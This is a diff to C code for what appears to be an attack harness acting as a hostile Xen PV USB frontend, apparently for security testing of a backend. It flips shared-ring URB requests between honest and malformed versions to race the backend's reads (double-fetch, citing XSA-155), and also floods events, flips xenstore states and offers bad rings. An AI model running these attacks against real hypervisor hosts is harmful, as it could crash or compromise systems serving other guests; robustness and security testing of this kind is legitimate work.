@@ -11,6 +11,10 @@
 #include "store.h"
 
 #define CLOSE_NS (2000 * MS)
+#define REWRITE_NS (100 * MS)
+
+/* The backend waits longer and longer before it lets a bad frontend connect again. */
+#define PATIENCE_NS (15000 * MS)
 #define PATH_MAX (2 * LINK_PATH_MAX)
 
 static bool time_is_over(const struct attacker *attacker)
@@ -23,71 +27,79 @@ static void node(const struct attacker *attacker, const char *name, char path[PA
 	format(path, PATH_MAX, "%s/%s", attacker->link.frontend, name);
 }
 
-/* Rewrites a request from the moment on that the backend may look at it (XSA-155). */
-static void rewrite(struct attacker *attacker, uint8_t *shared, uint32_t i)
+/* What a request becomes for a moment: nothing of it may pass, nor half of it. */
+static void spoil(struct usbif_urb_request *request, uint32_t i)
 {
-	struct usbif_urb_request honest, other;
-	const volatile uint32_t *answers = &attacker->link.urb.page.head->rsp_prod;
-	uint32_t before = *answers;
-	uint64_t until_ns = now_ns() + CLOSE_NS;
-
-	memcpy(&honest, shared, sizeof(honest));
-	other = honest;
 	switch (i % 6) {
 	case 0:
-		other.seg[0].length = 0xffff;
-		other.buffer_length = 0xffff;
+		request->seg[0].length = 0xffff;
+		request->buffer_length = 0xffff;
 		break;
 	case 1:
-		other.seg[0].offset = 4090;
+		request->seg[0].offset = 4090;
 		break;
 	case 2:
-		other.nr_buffer_segs = 16;
-		memset(other.seg + 1, 0xff, sizeof(other.seg) - sizeof(other.seg[0]));
+		request->nr_buffer_segs = 16;
+		memset(request->seg + 1, 0xff, sizeof(request->seg) - sizeof(request->seg[0]));
 		break;
 	case 3:
-		other.u.setup[6] = other.u.setup[7] = 0xff;
+		request->u.setup[6] = request->u.setup[7] = 0xff;
 		break;
 	case 4:
-		other.pipe = USBIF_PIPE_TYPE_ISOC << USBIF_PIPE_TYPE_SHIFT | honest.pipe % 32;
-		other.u.isoc.number_of_packets = 0xffff;
+		request->pipe &= ~(3u << USBIF_PIPE_TYPE_SHIFT);
+		request->u.isoc.number_of_packets = 0xffff;
+		request->u.isoc.nr_frame_desc_segs = 1;
 		break;
 	default:
-		other.nr_buffer_segs = 0xffff;
+		request->nr_buffer_segs = 0xffff;
 		break;
 	}
-	event_send(attacker->link.event);
-	while (*answers == before && now_ns() < until_ns && link_is_open(&attacker->link)) {
-		uint32_t flips;
+}
 
-		for (flips = 0; flips < 20000 && *answers == before; flips++) {
-			memcpy(shared, &other, sizeof(other));
-			memcpy(shared, &honest, sizeof(honest));
+/* Rewrites all requests that are under way, there and back, until they have their answers. */
+static void rewrite(struct attacker *attacker, const struct usbif_urb_request *honest,
+		    const struct usbif_urb_request *spoilt)
+{
+	const struct front_ring *ring = &attacker->link.urb;
+	const volatile uint32_t *answers = &ring->page.head->rsp_prod;
+	uint64_t until_ns = now_ns() + REWRITE_NS;
+	uint32_t at;
+
+	while (*answers != ring->req_prod_pvt && now_ns() < until_ns) {
+		for (at = *answers; at != ring->req_prod_pvt; at++) {
+			uint32_t slot = at % USBIF_URB_RING_SLOTS;
+			uint8_t *shared = ring->page.slots + slot * ring->page.slot_size;
+
+			memcpy(shared, &spoilt[slot], sizeof(*spoilt));
+			memcpy(shared, &honest[slot], sizeof(*honest));
 		}
 	}
 }
 
 static void change_request(struct attacker *attacker)
 {
-	struct usbif_urb_request request;
+	static struct usbif_urb_request honest[USBIF_URB_RING_SLOTS];
+	static struct usbif_urb_request spoilt[USBIF_URB_RING_SLOTS];
 	struct front_ring *ring = &attacker->link.urb;
-	uint32_t i;
+	uint32_t i = 0;
 
-	for (i = 0; !time_is_over(attacker); i++) {
-		uint8_t *shared = ring->page.slots +
-				  ring->req_prod_pvt % USBIF_URB_RING_SLOTS * ring->page.slot_size;
+	while (!time_is_over(attacker)) {
+		while (front_ring_free(ring) > 0) {
+			uint32_t slot = ring->req_prod_pvt % USBIF_URB_RING_SLOTS;
 
-		attack_begin_control(attacker, &request);
-		request.id = (uint16_t)i;
-		/* The last kind is seen as a breach of the protocol: not too often. */
-		front_ring_put(ring, &request, sizeof(request));
-		attacker->sent++;
-		if (front_ring_push(ring))
-			event_send(attacker->link.event);
-		rewrite(attacker, shared, i % 120 == 119 ? 5 : i % 5);
+			attack_begin_control(attacker, &honest[slot]);
+			honest[slot].id = (uint16_t)i;
+			spoilt[slot] = honest[slot];
+			/* The last kind is a breach of the protocol: not too often. */
+			spoil(&spoilt[slot], i % 600 == 599 ? 5 : i % 5);
+			link_put(&attacker->link, &honest[slot]);
+			attacker->sent++;
+			i++;
+		}
+		rewrite(attacker, honest, spoilt);
 		attack_take(attacker);
-		if (front_ring_free(ring) < USBIF_URB_RING_SLOTS &&
-		    !link_is_open(&attacker->link) && !attack_reconnect(attacker))
+		if (front_ring_free(ring) == 0 && !link_is_open(&attacker->link) &&
+		    !attack_reconnect(attacker))
 			return;
 	}
 }
@@ -98,7 +110,8 @@ static void until_closed(struct attacker *attacker,
 {
 	uint32_t i;
 
-	for (i = 0; !time_is_over(attacker); i++) {
+	attacker->until_ns += PATIENCE_NS;
+	for (i = 0; i < 4; i++) {
 		uint64_t until_ns = now_ns() + CLOSE_NS;
 
 		hit(attacker, i);
@@ -159,7 +172,8 @@ static void conn_index(struct attacker *attacker)
 	struct link *link = &attacker->link;
 	uint32_t i;
 
-	for (i = 0; !time_is_over(attacker) && start_over(attacker); i++) {
+	attacker->until_ns += PATIENCE_NS;
+	for (i = 0; i < 4 && start_over(attacker); i++) {
 		if (i % 2 == 0)
 			link->conn.page.head->req_prod = USBIF_CONN_RING_SLOTS + 1 + i;
 		link_offer(link, link->ring_reference[0], link->ring_reference[1], link->event,
@@ -220,26 +234,30 @@ static void event_storm(struct attacker *attacker)
 
 	attack_begin_control(attacker, &request);
 	for (i = 0; !time_is_over(attacker); i++) {
-		for (j = 0; j < 1000; j++)
+		for (j = 0; j < 100; j++)
 			event_send(attacker->link.event);
 		request.id = (uint16_t)i;
 		if (!attack_send(attacker, &request))
 			return;
 	}
-	print("xvhc-bare: %u thousand events\r\n", i);
+	print("xvhc-bare: %u hundred events\r\n", i);
 }
 
 static void state_flips(struct attacker *attacker)
 {
 	static const char *const values[] = {"1", "3", "4", "5",          "6",  "2",
 					     "0", "7", "",  "4294967297", "-1", "four"};
+	const char *chosen[10];
 	char path[PATH_MAX];
-	uint32_t i;
+	uint32_t i, j;
 
 	node(attacker, "state", path);
-	for (i = 0; !time_is_over(attacker); i++)
-		store_write(0, path, values[attack_random(attacker) % 12]);
-	print("xvhc-bare: %u states\r\n", i);
+	for (i = 0; !time_is_over(attacker); i++) {
+		for (j = 0; j < 10; j++)
+			chosen[j] = values[attack_random(attacker) % 12];
+		store_write_many(path, chosen, 10);
+	}
+	print("xvhc-bare: %u states\r\n", 10 * i);
 }
 
 static void reconnects(struct attacker *attacker)
@@ -260,7 +278,8 @@ static void offers(struct attacker *attacker)
 	struct link *link = &attacker->link;
 	uint32_t i;
 
-	for (i = 0; !time_is_over(attacker) && start_over(attacker); i++) {
+	attacker->until_ns += PATIENCE_NS;
+	for (i = 0; i < 8 && start_over(attacker); i++) {
 		const uint32_t urb = link->ring_reference[0], conn = link->ring_reference[1];
 		const uint32_t event = link->event;
 		const uint32_t bad[][3] = {
